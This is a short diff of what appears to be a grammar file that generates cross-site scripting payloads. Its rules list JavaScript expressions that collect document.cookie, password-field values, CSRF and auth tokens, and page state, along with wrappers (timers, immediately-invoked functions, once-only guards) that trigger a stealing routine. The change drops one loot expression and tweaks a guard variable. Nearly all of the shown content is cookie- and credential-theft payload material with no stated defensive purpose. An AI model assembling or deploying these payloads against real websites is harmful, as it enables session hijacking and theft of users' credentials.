@@ -257,7 +257,6 @@ xs.loot: 6× document.cookie
   document.querySelector(‹=q›‹[name=‹xs.key›]¦input[type=password]¦meta[name=‹xs.key›]¦#‹col››‹=q›).‹value¦content›
   document.getElementsByName(‹=q›‹xs.key›‹=q›)[0].value
   window.‹csrfToken¦authToken¦user.‹col›¦__INITIAL_STATE__.‹col››
-  location.href
   encodeURI(location+document.cookie)
   navigator.userAgent+document.cookie
   document.domain+‹=q›|‹=q›+document.cookie
@@ -403,7 +402,7 @@ xs.js: 12× ‹xs.call›
   setTimeout(()=>{‹xs.steal›},‹#100-9999›)
   (function(){‹xs.steal›})()
   event.preventDefault();‹xs.steal›
-  if(!window.‹~1-4›){window.‹~1-4›=1;‹xs.steal›}
+  if(!window.‹=f:‹~1-4››){window.‹=f›=1;‹xs.steal›}
   ‹xs.obf›
 xs.tight: 10× ‹xs.base›(‹n›)
   3× ‹xs.base›(document.‹domain¦cookie›)
